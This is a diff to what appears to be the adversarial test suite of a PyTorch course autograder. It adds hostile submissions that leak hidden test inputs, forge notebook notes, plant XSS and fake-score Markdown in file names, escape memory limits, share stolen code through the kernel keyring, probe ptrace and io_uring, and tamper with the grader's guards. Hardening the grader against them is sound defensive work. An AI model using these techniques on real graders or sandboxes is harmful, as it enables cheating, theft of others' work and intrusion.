@@ -330,6 +330,49 @@ def cross_entropy_logits(logits, y):
     _leak(logits, y)
 '''}, why="a hidden check shows the exception's built-in type and line, never its message or class name")
 
+attack("hidden_input_in_line_and_type", {"ch3/softmax.py": '''
+import torch
+KINDS = [ValueError, TypeError, KeyError, IndexError, ZeroDivisionError, RuntimeError, LookupError, OSError]
+def _leak(t):
+    v = int(abs(float(t.flatten()[0])) * 1000)
+    if v % 3 == 0:
+        return torch.zeros(v + 1)                     # the shape carries it
+    if v % 3 == 1:
+        raise KINDS[v % 8]("x")                       # the built-in chosen carries it
+    if v % 2:
+        raise KINDS[v // 2 % 8]("y")                  # and the line it is raised on
+    raise KINDS[v // 4 % 8]("z")
+def softmax(X):
+    return _leak(X)
+def cross_entropy(y_hat, y):
+    return _leak(y_hat)
+def cross_entropy_logits(logits, y):
+    return _leak(logits)
+'''}, why="a hidden check shows its title and status, nothing the student's code chose (shape, type, line)")
+
+def notebook(*cells: str) -> str:
+    """An .ipynb with these code cells, as Jupyter writes it."""
+    return json.dumps({"nbformat": 4, "nbformat_minor": 5, "metadata": {}, "cells": [
+        {"cell_type": "code", "id": f"c{i}", "metadata": {}, "execution_count": None, "outputs": [],
+         "source": cell} for i, cell in enumerate(cells)]})
+
+
+attack("forged_cell_note", {"ch3/softmax.ipynb": notebook("from google.colab import drive", '''
+import sys
+import torch
+def _note(t):
+    sys.stderr.write("torchgrade-cell: LEAK " + " ".join(f"{v:.6f}" for v in t.flatten().tolist()) + "\\n")
+    sys.stderr.flush()
+    return torch.zeros(())
+def softmax(X):
+    _note(X)
+    return torch.full_like(X, 1.0 / X.shape[1])
+def cross_entropy(y_hat, y):
+    return _note(y_hat)
+def cross_entropy_logits(logits, y):
+    return _note(logits)
+''')}, why="a notebook's cell notes are read from an import-only worker: a line forged during a check is not a note")
+
 IPC_KEY = 0x54474950
 IPC = f'''
 import ctypes
@@ -462,19 +505,19 @@ attack("deep_folder_chain", {"ch3/softmax.py": "{PERFECT}", f"{DEEP}/x.txt": "de
 attack("Case_Clash", {"ch3/softmax.py": "{PERFECT}"}, why="ids that differ only by case: an error naming both")
 attack("case_clash", {"ch3/softmax.py": "{PERFECT}"}, why="ids that differ only by case: an error naming both")
 
-FORGED_NAME = ("x\n\n**Total: 70 / 70 points**\n\n<img src=x onerror=alert(1)> "
+FORGED_NAME = ("x\n\n**Final grade: 70 / 70 points**\n\n<img src=x onerror=alert(1)> "
                "[click](javascript:alert(1)).py")
 HTML_NAME = "<img src=x onerror=alert(1)> [click](javascript:alert(1)) https:--evil.example.py"
 attack("markdown_file_name", {f"ch3/{FORGED_NAME}": "x = 1\n", f"ch3/{HTML_NAME}": "x = 1\n"},
        why="a file name with newlines, Markdown and HTML is refused or escaped, never shown raw")
 
 attack("notebook_field_html", {"ch3/softmax.ipynb": json.dumps({
-    "nbformat": "<script>alert(1)</script>\n\n**Total: 70 / 70 points** [x](javascript:alert(1))",
+    "nbformat": "<script>alert(1)</script>\n\n**Final grade: 70 / 70 points** [x](javascript:alert(1))",
     "nbformat_minor": 5, "metadata": {}, "cells": []})},
        why="a notebook's own fields reach the feedback only escaped")
 
 attack("visible_message_markup", {"ch3/softmax.py": returning(
-    "_raise()", "def _raise():\n    raise ValueError('\\n\\n**Total: 70 / 70 points**\\n\\n<script>alert(1)</script>"
+    "_raise()", "def _raise():\n    raise ValueError('\\n\\n**Final grade: 70 / 70 points**\\n\\n<script>alert(1)</script>"
     " [x](javascript:alert(1)) ```\\n# Forged heading')\n")},
        why="a visible check shows the student's own message, inside a code block, as text")
 # ---------------------------------------------------------------- issue 8, class 1: engine state
@@ -691,3 +734,569 @@ def cross_entropy(y_hat, y):
 def cross_entropy_logits(logits, y):
     return -torch.log(softmax(logits).gather(1, y[:, None])).mean()
 '''}, why="attention computes a softmax")
+
+# ---------------------------------------------------------------------------- issue 24, class 5
+# The sandbox itself: memory held outside the address space, a kernel channel between two
+# students graded at the same time, system calls beyond Docker's baseline. Each one that worked
+# would turn into the reference solution (10); a wrong answer proves it did not.
+
+attack("memfd_hoard", {"ch3/softmax.py": unless("_held_more_than_the_limit()", '''
+import os, resource
+def _held_more_than_the_limit():
+    # the worker's limit, as it can work it out: its address-space cap less what is mapped now
+    with open("/proc/self/statm") as fh:
+        mapped = int(fh.read().split()[0]) * os.sysconf("SC_PAGE_SIZE")
+    limit = resource.getrlimit(resource.RLIMIT_AS)[0] - mapped
+    # pages in a memfd are not address space; RLIMIT_FSIZE caps each one, so several
+    fds, held, step = [], 0, 128 << 20
+    try:
+        while held <= limit + (256 << 20):
+            fds.append(os.memfd_create("hoard"))
+            os.posix_fallocate(fds[-1], 0, step)      # the pages, without copying into them
+            held += step
+    except OSError:
+        return False
+    return True
+''')}, why="memory in a memfd counts: the worker is stopped at its limit (oom) or memfds are "
+           "refused; tests/sandbox/test_memory.py shows it with a small limit")
+
+KEYRING = '''
+import ctypes, platform
+_libc = ctypes.CDLL(None, use_errno=True)
+_libc.syscall.restype = ctypes.c_long
+_ADD_KEY, _KEYCTL = {"x86_64": (248, 250), "aarch64": (217, 219)}[platform.machine()]
+_NAME = b"tg-course-share"
+'''
+
+attack("keyring_a_writer", {"ch3/softmax.py": KEYRING + '''
+def _publish():
+    source = open(__file__, "rb").read()
+    for ring in (-4, -3):                                # its user and session keyrings
+        key = _libc.syscall(_ADD_KEY, b"user", _NAME, source, len(source), ring)
+        if key >= 0:
+            _libc.syscall(_KEYCTL, 5, key, 0x3F3F3F3F)   # KEYCTL_SETPERM: anybody may read it
+_publish()
+{PERFECT}
+'''}, score=10.0, why="an honest student whose worker tries to publish its source in the kernel keyring")
+
+attack("keyring_b_reader", {"ch3/softmax.py": KEYRING + '''
+import time
+def _fetch():
+    deadline = time.monotonic() + 3
+    while time.monotonic() < deadline:
+        ids = []
+        try:
+            with open("/proc/keys") as fh:               # every key this process may view
+                ids = [int(line.split()[0], 16) for line in fh if "tg-course-share" in line]
+        except OSError:
+            pass
+        for ring in (-4, -3):
+            key = _libc.syscall(_KEYCTL, 10, ring, b"user", _NAME, 0)     # KEYCTL_SEARCH
+            if key >= 0:
+                ids.append(key)
+        for key in ids:
+            buf = ctypes.create_string_buffer(1 << 16)
+            n = _libc.syscall(_KEYCTL, 11, key, buf, 1 << 16)            # KEYCTL_READ
+            if n > 0:
+                return buf.raw[:n].decode()
+        time.sleep(0.1)
+    return None
+_stolen = _fetch()
+if _stolen:
+    exec(compile(_stolen, "stolen", "exec"))
+else:
+''' + "\n".join("    " + line for line in WRONG.strip().splitlines()) + "\n"},
+       why="the kernel keyring is not namespaced: refused to workers, so no classmate's key is found")
+
+attack("syscalls_beyond_docker", {"ch3/softmax.py": unless("_escaped()", '''
+import ctypes, os, platform, signal, struct, time
+_libc = ctypes.CDLL(None, use_errno=True)
+_libc.syscall.restype = ctypes.c_long
+_NR = {"x86_64": {"ptrace": 101, "process_vm_readv": 310, "userfaultfd": 323, "io_uring_setup": 425,
+                  "perf_event_open": 298},
+       "aarch64": {"ptrace": 117, "process_vm_readv": 270, "userfaultfd": 282, "io_uring_setup": 425,
+                   "perf_event_open": 241}}[platform.machine()]
+def _escaped():
+    """Read another process's memory (its own child: a sibling is invisible), or get a
+    userfaultfd, an io_uring or a performance counter."""
+    secret = ctypes.create_string_buffer(b"the other process's secret")
+    child = os.fork()
+    if child == 0:
+        time.sleep(30)
+        os._exit(0)
+    try:
+        got = ctypes.create_string_buffer(32)
+        local = (ctypes.c_void_p * 2)(ctypes.cast(got, ctypes.c_void_p), 26)
+        remote = (ctypes.c_void_p * 2)(ctypes.cast(secret, ctypes.c_void_p), 26)
+        read = _libc.syscall(_NR["process_vm_readv"], child, local, 1, remote, 1, 0) == 26
+        traced = _libc.syscall(_NR["ptrace"], 16, child, 0, 0) == 0              # PTRACE_ATTACH
+    finally:
+        os.kill(child, signal.SIGKILL)
+        os.waitpid(child, 0)
+    uffd = _libc.syscall(_NR["userfaultfd"], 1) >= 0
+    ring = _libc.syscall(_NR["io_uring_setup"], 1, ctypes.create_string_buffer(120)) >= 0
+    attr = bytearray(128)
+    struct.pack_into("IIQ", attr, 0, 1, 128, 1)
+    struct.pack_into("Q", attr, 40, (1 << 5) | (1 << 6))
+    counter = _libc.syscall(_NR["perf_event_open"], (ctypes.c_char * 128).from_buffer(attr), 0, -1, -1, 0) >= 0
+    return read or traced or uffd or ring or counter
+''')}, why="ptrace, process_vm_readv, userfaultfd, io_uring and perf_event_open are refused to workers")
+# ---------------------------------------------------------------- issue 24: the judge's review
+# Routes around the run-time guard and the seal that live in the student's own interpreter. The
+# guarantee is the judge's review of the source: each of these is a finding (FINDINGS below), so
+# the exercise is held for review with 0 until the instructor decides, whatever the run-time
+# checks made of it (score None: what the worker's guard catches is the runtime's to say).
+HONEST_CE = '''
+def cross_entropy(y_hat, y):
+    return -torch.log(y_hat[torch.arange(len(y)), y]).mean()
+def cross_entropy_logits(logits, y):
+    return cross_entropy(softmax(logits), y)
+'''
+
+attack("route_other_op_namespace", {"ch3/softmax.py": '''
+import torch
+def softmax(X):
+    q = torch.quantize_per_tensor(X, 1.0 / 64, 128, torch.quint8)
+    return torch.ops.quantized.softmax(q, 1, 1.0 / 256, 0).dequantize()
+''' + HONEST_CE}, score=None, why="an operator namespace other than aten computes the softmax")
+attack("route_custom_op", {"ch3/softmax.py": '''
+import torch
+import torch.nn.functional as F
+@torch.library.custom_op("student::rows", mutates_args=())
+def _rows(X: torch.Tensor) -> torch.Tensor:
+    return F.softmax(X, dim=1)
+def softmax(X):
+    return torch.ops.student.rows(X)
+''' + HONEST_CE}, score=None, why="a custom operator whose Python kernel calls the banned softmax")
+attack("route_numpy", {"ch3/softmax.py": '''
+import numpy as np
+import torch
+def softmax(X):
+    e = np.exp(X.numpy() - X.numpy().max(axis=1, keepdims=True))
+    return torch.from_numpy(e / e.sum(axis=1, keepdims=True))
+def cross_entropy(y_hat, y):
+    return -torch.log(y_hat[torch.arange(len(y)), y]).mean()
+def cross_entropy_logits(logits, y):
+    lse = torch.from_numpy(np.logaddexp.reduce(logits.numpy(), axis=1))
+    return (lse - logits[torch.arange(len(y)), y]).mean()
+'''}, score=None, why="numpy's logaddexp is a log-sum-exp the guard never sees")
+attack("mode_pushed_at_import", {"ch3/softmax.py": '''
+import torch
+import torch.nn.functional as F
+from torch.overrides import TorchFunctionMode
+class _Answer(TorchFunctionMode):
+    def __torch_function__(self, func, types, args=(), kwargs=None):
+        if func is torch.nan_to_num and (kwargs or {}).get("nan") == -7.0:
+            return F.softmax(args[0], dim=1)
+        return func(*args, **(kwargs or {}))
+_Answer().__enter__()
+def softmax(X):
+    return torch.nan_to_num(X, nan=-7.0)
+''' + HONEST_CE}, score=None, why="a function mode pushed at import answers an allowed call with the banned one")
+attack("dispatch_mode_pushed_at_import", {"ch3/softmax.py": '''
+import torch
+from torch.utils._python_dispatch import TorchDispatchMode
+class _Answer(TorchDispatchMode):
+    def __torch_dispatch__(self, func, types, args=(), kwargs=None):
+        if func is torch.ops.aten.nan_to_num.default and args[1] == -7.0:
+            return torch.ops.aten._softmax.default(args[0], 1, False)
+        return func(*args, **(kwargs or {}))
+_Answer().__enter__()
+def softmax(X):
+    return torch.nan_to_num(X, nan=-7.0)
+''' + HONEST_CE}, score=None, why="a dispatch mode pushed at import answers an allowed operator with the banned one")
+attack("thread_pops_modes", {"ch3/softmax.py": '''
+import threading, time
+import torch
+_popped = []
+def _pop_forever():
+    while True:
+        try:
+            _popped.append(torch._C._pop_torch_function_stack())
+        except Exception:
+            time.sleep(0.0005)
+threading.Thread(target=_pop_forever, daemon=True).start()
+''' + BANNED}, score=None, why="a thread pops the guard's mode while no guard is active")
+attack("dispatch_switch_unwrapped", {"ch3/softmax.py": '''
+import torch
+import torch.nn.functional as F
+def softmax(X):
+    with torch._C._DisableTorchDispatch():
+        with torch._C.DisableTorchFunctionSubclass():
+            return F.softmax(X, dim=1)
+''' + HONEST_CE}, score=None, why="a dispatch switch the guard does not wrap like the others")
+attack("compiled_under_trusted_name", {"ch3/softmax.py": '''
+import torch
+import torch.nn.functional as F
+_SOURCE = "def softmax(X):\\n    return F.softmax(X, dim=1)\\n"
+exec(compile(_SOURCE, F.__file__, "exec"))
+''' + HONEST_CE}, score=None, why="code compiled under torch's own file name, which a guard might trust")
+attack("class_swap", {"ch3/softmax.py": '''
+import types
+import torch
+import torch.nn.functional as F
+class _Open(types.ModuleType):
+    def __getattribute__(self, name):
+        return object.__getattribute__(self, "softmax" if name == "relu6" else name)
+def _swap(obj, cls):
+    obj.__class__ = cls
+_swap(F, _Open)
+def softmax(X):
+    return F.relu6(X, dim=1)
+''' + HONEST_CE}, score=None, why="a module's __class__ swapped for one that answers another name")
+attack("torch_ops_blinded", {"ch3/softmax.py": '''
+import torch
+import torch.nn.functional as F
+_name = torch._ops.OpOverload.name
+torch._ops.OpOverload.name = lambda self: "aten::exp" if "softmax" in _name(self) else _name(self)
+''' + BANNED}, score=None, why="torch._ops swapped so that a banned operator reads as another")
+attack("rebind_stdlib", {"ch3/softmax.py": '''
+import os.path, time
+import torch
+import torch.nn.functional as F
+def softmax(X):
+    real = os.path.realpath
+    os.path.realpath = lambda path: F.__file__
+    try:
+        return F.softmax(X, dim=1)
+    finally:
+        os.path.realpath = real
+time.perf_counter = lambda: 0.0
+''' + HONEST_CE}, score=None, why="stdlib functions the trust check and the probes call, rebound")
+attack("reply_loop_patched", {"ch3/softmax.py": '''
+import grader.sandbox.worker as _worker
+_worker.MAX_REPLY = 1 << 40
+''' + "{PERFECT}"}, score=None, why="an engine module that runs in the worker, patched")
+attack("computed_dunder_name", {"ch3/softmax.py": '''
+import torch
+class _Rows(torch.Tensor):
+    pass
+_NAME = chr(95) * 2 + "class" + chr(95) * 2
+def _as(obj, cls):
+    setattr(obj, _NAME, cls)
+    setattr(obj, "".join(["__cl", "ass__"]), cls)
+    return obj
+''' + WRONG}, why="an attribute name spelled from character codes, and from pieces")
+attack("memfd_and_keyring", {"ch3/softmax.py": '''
+import ctypes, os
+def _hold():
+    fd = os.memfd_create("tg")
+    os.ftruncate(fd, 1 << 20)
+    libc = ctypes.CDLL(None, use_errno=True)
+    libc.syscall(248, b"user", b"tg", b"secret", 6, -2)
+_hold()
+''' + WRONG}, why="memory a limit does not count, a keyring shared between students")
+
+
+# ---------------------------------------------------------------- what the judge's review finds
+# For every attack: each finding's kind and a piece of the line it is on ({PERFECT} and the other
+# placeholders filled in as at grading time; a piece found on several lines stands for all of
+# them). The review must find exactly these, no more: held for review with 0 under the course's
+# default policy ([grading] findings = "withhold"); an attack with none is scored as above.
+FINDINGS: dict[str, list[tuple[str, str]]] = {
+    'eq_always_true': [
+        ('dunder', 'def __float__(self): return 2.0404'),
+        ('dunder', 'def __getattr__(self, name): return lambda *a, *'),
+    ],
+    'tensor_subclass_eq': [
+        ('subclass', 'class T(torch.Tensor):'),
+    ],
+    'torch_function_override': [
+        ('subclass', 'class T(torch.Tensor):'),
+        ('dunder', 'def __torch_function__(cls, func, types, args=()'),
+    ],
+    'nan_outputs': [],
+    'broadcastable_shapes': [],
+    'patch_allclose': [
+        ('patch', 'torch.allclose = lambda *a, **k: True'),
+        ('patch', 'torch.equal = lambda *a, **k: True'),
+        ('patch', 'torch.isclose = lambda a, b, *r, **k: torch.ones'),
+        ('patch', 'torch.Tensor.__eq__ = lambda self, other: torch.'),
+    ],
+    'patch_assert_close': [
+        ('patch', 'torch.testing.assert_close = lambda *a, **k: Non'),
+        ('patch', 'torch.testing.assert_allclose = lambda *a, **k:'),
+    ],
+    'patch_numpy_testing': [
+        ('patch', 'numpy.testing.assert_allclose = lambda *a, **k:'),
+        ('patch', 'numpy.allclose = lambda *a, **k: True'),
+    ],
+    'patch_pytest_runtest': [
+        ('import', 'import _pytest.python, _pytest.runner'),
+    ],
+    'conftest_makereport': [],
+    'sys_exit_at_import': [],
+    'os_exit_at_import': [
+        ('private', 'os._exit(0)'),
+    ],
+    'sys_exit_in_call': [],
+    'os_exit_in_call': [
+        ('private', 'return os._exit(0)'),
+    ],
+    'fake_passed_output': [],
+    'write_output_folder': [],
+    'read_hidden_checks': [
+        ('dynamic', 'exec(compile(src, "stolen", "exec"), ns)'),
+    ],
+    'read_other_student': [
+        ('dynamic', 'exec(compile(open("{SUBMISSIONS}/control_perfect'),
+    ],
+    'shadow_torch_module': [],
+    'shadow_numpy_module': [],
+    'sitecustomize': [],
+    'pth_file': [],
+    'infinite_loop': [],
+    'memory_bomb': [],
+    'fork_bomb': [
+        ('restricted', 'os.fork()'),
+    ],
+    'huge_output': [],
+    'background_process': [
+        ('import', 'import os, subprocess, threading, time'),
+    ],
+    'global_torch_state': [],
+    'forbidden_alias': [
+        ('reflection', 'return getattr(F, "soft" + "max")(X, dim=1)'),
+        ('reflection', 'return getattr(torch.ops.aten, "_log_" + "softma'),
+        ('spelled', 'return getattr(torch.ops.aten, "_log_" + "softma'),
+        ('torch.ops', 'return getattr(torch.ops.aten, "_log_" + "softma'),
+    ],
+    'guard_switched_off': [
+        ('private', 'from torch._C import DisableTorchFunction'),
+        ('private', 'with DisableTorchFunction():'),
+        ('torch.overrides', 'with torch.overrides._pop_mode_temporarily():'),
+        ('private', 'with torch.utils._python_dispatch._disable_curre'),
+        ('private', 'mode = torch._C._pop_torch_function_stack()'),
+        ('private', 'torch._C._push_on_torch_function_stack(mode)'),
+    ],
+    'network': [
+        ('import', 'import socket'),
+    ],
+    'segfault': [
+        ('import', 'import ctypes'),
+    ],
+    'kill_parent': [
+        ('import', 'import os, signal'),
+        ('restricted', 'os.kill(os.getppid(), signal.SIGKILL)'),
+    ],
+    'syntax_error': [],
+    'not_utf8': [],
+    'proc_cmdline_leak': [
+        ('dynamic', "exec('\\nimport torch\\ndef softmax(X):\\n    retur"),
+    ],
+    'forged_cell_note': [],
+    'hidden_input_in_line_and_type': [],
+    'hidden_message_exfiltration': [
+        ('import', 'import base64, io, torch'),
+    ],
+    'ipc_a_writer': [
+        ('import', 'import ctypes'),
+    ],
+    'ipc_b_reader': [
+        ('import', 'import ctypes'),
+        ('dynamic', 'exec(compile(_stolen, "stolen", "exec"))'),
+    ],
+    'zero_stride_reply': [
+        ('grader', 'import grader.checks.codec as _codec'),
+        ('grader', '_original = _codec.to_plain'),
+        ('grader', 'return _original(obj, *args, **kwargs)'),
+        ('grader', '_codec.to_plain = to_plain'),
+        ('spelled', '_forge({"__tg__": "tensor", "data": torch.zeros('),
+    ],
+    'pickle_bomb_reply': [
+        ('grader', 'import grader.checks.codec as _codec'),
+        ('grader', '_original = _codec.to_plain'),
+        ('grader', 'return _original(obj, *args, **kwargs)'),
+        ('grader', '_codec.to_plain = to_plain'),
+    ],
+    'huge_pickle_reply': [
+        ('grader', 'import grader.checks.codec as _codec'),
+        ('grader', '_original = _codec.to_plain'),
+        ('grader', 'return _original(obj, *args, **kwargs)'),
+        ('grader', '_codec.to_plain = to_plain'),
+    ],
+    'forged_frame_zero_stride': [
+        ('import', 'import os, socket, struct'),
+        ('import', 'import msgpack'),
+        ('restricted', 'if os.readlink(f"/proc/self/fd/{fd}").startswith'),
+        ('restricted', 'socket.socket(fileno=os.dup(int(fd))).sendall(st'),
+        ('private', 'os._exit(0)'),
+        ('spelled', 'return _send(msgpack.packb({"ok": True, "value":'),
+    ],
+    'forged_frame_length_claim': [
+        ('import', 'import os, socket, struct'),
+        ('import', 'import msgpack'),
+        ('restricted', 'if os.readlink(f"/proc/self/fd/{fd}").startswith'),
+        ('restricted', 'socket.socket(fileno=os.dup(int(fd))).sendall(st'),
+        ('private', 'os._exit(0)'),
+    ],
+    'forged_frame_deep_nesting': [
+        ('import', 'import os, socket, struct'),
+        ('import', 'import msgpack'),
+        ('restricted', 'if os.readlink(f"/proc/self/fd/{fd}").startswith'),
+        ('restricted', 'socket.socket(fileno=os.dup(int(fd))).sendall(st'),
+        ('private', 'os._exit(0)'),
+    ],
+    'forged_frame_array_claim': [
+        ('import', 'import os, socket, struct'),
+        ('import', 'import msgpack'),
+        ('restricted', 'if os.readlink(f"/proc/self/fd/{fd}").startswith'),
+        ('restricted', 'socket.socket(fileno=os.dup(int(fd))).sendall(st'),
+        ('private', 'os._exit(0)'),
+    ],
+    'sleeper': [],
+    'deep_folder_chain': [],
+    'Case_Clash': [],
+    'case_clash': [],
+    'markdown_file_name': [],
+    'notebook_field_html': [],
+    'visible_message_markup': [],
+    'tamper_guard_seen_noop': [
+        ('grader', 'import grader.checks.forbid as forbid'),
+        ('grader', 'forbid.Guard.seen = lambda self, func: None'),
+    ],
+    'tamper_guard_seen_code': [
+        ('grader', 'import grader.checks.forbid as forbid'),
+        ('dunder', 'forbid.Guard.seen.__code__ = (lambda self, func:'),
+        ('grader', 'forbid.Guard.seen.__code__ = (lambda self, func:'),
+    ],
+    'tamper_module_dict': [
+        ('grader', 'import grader.checks.forbid as forbid'),
+        ('dynamic', 'vars(forbid)["expand_families"] = lambda names:'),
+        ('grader', 'vars(forbid)["expand_families"] = lambda names:'),
+        ('dunder', 'type.__setattr__(forbid.Guard, "seen", lambda se'),
+        ('grader', 'type.__setattr__(forbid.Guard, "seen", lambda se'),
+    ],
+    'tamper_family_table': [
+        ('grader', 'import grader.checks.forbid as forbid'),
+        ('grader', 'for key in list(forbid.FAMILIES):'),
+        ('grader', 'forbid.FAMILIES[key] = frozenset()'),
+        ('patch', 'forbid.FAMILIES[key] = frozenset()'),
+        ('torch.ops', 'return torch.exp(torch.ops.aten._safe_softmax(X,'),
+        ('torch.ops', 'return torch.ops.aten.nll_loss_forward(torch.log'),
+    ],
+    'tamper_codec_helper': [
+        ('grader', 'import grader.checks.codec as codec'),
+        ('grader', '_real = codec.encode_tensor'),
+        ('grader', 'return _real(t, path, budget)'),
+        ('grader', 'codec.encode_tensor = _lie'),
+    ],
+    'tamper_caught_attempt': [
+        ('grader', 'import grader.checks.executor as executor'),
+        ('grader', 'executor.reset_torch_state = lambda: None'),
+    ],
+    'tamper_sys_modules': [
+        ('patch', 'sys.modules["grader.checks.codec"] = types.Modul'),
+        ('restricted', 'sys.modules["grader.checks.codec"] = types.Modul'),
+    ],
+    'tamper_torch_class': [
+        ('patch', 'torch.nn.Module.named_modules = named_modules'),
+    ],
+    'tamper_in_call': [
+        ('grader', 'import grader.checks.specs as specs'),
+        ('grader', 'specs.ModelRecorder.records = lambda self: {}'),
+    ],
+    'ban_helper_thread': [
+        ('import', 'import threading'),
+    ],
+    'ban_thread_started_at_import': [
+        ('import', 'import queue, threading'),
+    ],
+    'ban_thread_pool': [
+        ('import', 'from concurrent.futures import ThreadPoolExecuto'),
+    ],
+    'ban_torchscript': [
+        ('private', 'torch._C._jit_override_can_fuse_on_cpu(True)'),
+        ('torch.jit', '@torch.jit.script'),
+    ],
+    'ban_torchscript_in_call': [
+        ('torch.jit', 'return torch.jit.trace(lambda X: torch.softmax(X'),
+        ('torch.jit', 'return torch.jit.trace(lambda a: torch.log_softm'),
+    ],
+    'ban_apply_callback': [
+        ('callback', 'out.view(-1).apply_(lambda v: float(flat[next(in'),
+    ],
+    'ban_wrapped_original': [
+        ('private', 'pop = getattr(torch._C._pop_torch_function_stack'),
+        ('spelled', 'pop = getattr(torch._C._pop_torch_function_stack'),
+        ('private', 'disable = getattr(torch._C.DisableTorchFunction,'),
+        ('spelled', 'disable = getattr(torch._C.DisableTorchFunction,'),
+        ('private', 'with disable():'),
+    ],
+    'ban_aten_overloads': [
+        ('torch.ops', 'aten = torch.ops.aten'),
+        ('torch.ops', 'return aten._safe_softmax.default(X, 1)'),
+        ('torch.ops', 'return aten.nll_loss_forward.default(torch.log(y'),
+        ('torch.ops', 'return aten.nll_loss2d.default(logp[:, :, None,'),
+    ],
+    'ban_attention_softmax': [
+        ('route', 'return F.scaled_dot_product_attention(torch.ones'),
+        ('torch.ops', 'return torch.ops.aten.nll_loss_nd(torch.log(y_ha'),
+    ],
+    'route_other_op_namespace': [
+        ('torch.ops', 'return torch.ops.quantized.softmax(q, 1, 1.0 / 2'),
+    ],
+    'route_custom_op': [
+        ('torch.library', '@torch.library.custom_op("student::rows", mutate'),
+        ('torch.ops', 'return torch.ops.student.rows(X)'),
+    ],
+    'route_numpy': [
+        ('numpy', 'e = np.exp(X.numpy() - X.numpy().max(axis=1, kee'),
+        ('numpy', 'lse = torch.from_numpy(np.logaddexp.reduce(logit'),
+    ],
+    'mode_pushed_at_import': [
+        ('torch.overrides', 'from torch.overrides import TorchFunctionMode'),
+        ('torch.overrides', 'class _Answer(TorchFunctionMode):'),
+        ('dunder', 'def __torch_function__(self, func, types, args=('),
+    ],
+    'dispatch_mode_pushed_at_import': [
+        ('private', 'from torch.utils._python_dispatch import TorchDi'),
+        ('private', 'class _Answer(TorchDispatchMode):'),
+        ('dunder', 'def __torch_dispatch__(self, func, types, args=('),
+        ('torch.ops', 'if func is torch.ops.aten.nan_to_num.default and'),
+        ('torch.ops', 'return torch.ops.aten._softmax.default(args[0],'),
+    ],
+    'thread_pops_modes': [
+        ('import', 'import threading, time'),
+        ('private', '_popped.append(torch._C._pop_torch_function_stac'),
+    ],
+    'dispatch_switch_unwrapped': [
+        ('private', 'with torch._C._DisableTorchDispatch():'),
+        ('private', 'with torch._C.DisableTorchFunctionSubclass():'),
+    ],
+    'compiled_under_trusted_name': [
+        ('dynamic', 'exec(compile(_SOURCE, F.__file__, "exec"))'),
+    ],
+    'class_swap': [
+        ('restricted', 'class _Open(types.ModuleType):'),
+        ('dunder', 'def __getattribute__(self, name):'),
+        ('dunder', 'return object.__getattribute__(self, "softmax" i'),
+        ('dunder', 'obj.__class__ = cls'),
+    ],
+    'torch_ops_blinded': [
+        ('private', '_name = torch._ops.OpOverload.name'),
+        ('patch', 'torch._ops.OpOverload.name = lambda self: "aten:'),
+        ('private', 'torch._ops.OpOverload.name = lambda self: "aten:'),
+    ],
+    'rebind_stdlib': [
+        ('patch', 'os.path.realpath = lambda path: F.__file__'),
+        ('patch', 'os.path.realpath = real'),
+        ('patch', 'time.perf_counter = lambda: 0.0'),
+    ],
+    'reply_loop_patched': [
+        ('grader', 'import grader.sandbox.worker as _worker'),
+        ('grader', '_worker.MAX_REPLY = 1 << 40'),
+    ],
+    'computed_dunder_name': [
+        ('subclass', 'class _Rows(torch.Tensor):'),
+        ('reflection', 'setattr(obj, _NAME, cls)'),
+        ('dunder', 'setattr(obj, "".join(["__cl", "ass__"]), cls)'),
+        ('reflection', 'setattr(obj, "".join(["__cl", "ass__"]), cls)'),
+        ('spelled', 'setattr(obj, "".join(["__cl", "ass__"]), cls)'),
+    ],
+    'memfd_and_keyring': [
+        ('import', 'import ctypes, os'),
+        ('restricted', 'fd = os.memfd_create("tg")'),
+        ('restricted', 'os.ftruncate(fd, 1 << 20)'),
+    ],
+}
